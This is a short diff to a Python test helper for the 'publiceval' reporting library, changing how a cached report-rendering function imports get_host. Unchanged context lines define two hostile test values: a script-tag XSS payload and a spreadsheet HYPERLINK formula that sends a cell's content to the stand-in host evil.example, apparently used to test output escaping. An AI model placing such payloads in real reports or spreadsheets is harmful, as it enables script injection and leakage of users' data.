@@ -15,6 +15,7 @@ import numpy as np
 import publiceval as pe
 from publiceval import OPD, Evaluation, Item, Scale, ScaleLabel, Survey, Text
 from publiceval._core.results import OPDUncertainty
+from publiceval.plugin import get_host
 
 SCRIPT_NAME = "<script>alert(1)</script>"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'
@@ -280,5 +281,5 @@ def evaluation(kind: str = "plain") -> Evaluation:
 @cache
 def rendered(fmt: str, lang: str = "id", kind: str = "plain") -> bytes:
     """A report rendered once per test session: rendering HTML draws charts and takes a second."""
-    reporter = pe.get_host().reporter(fmt).create()
+    reporter = get_host().reporter(fmt).create()
     return reporter.render(evaluation(kind), lang=lang)  # type: ignore[arg-type]
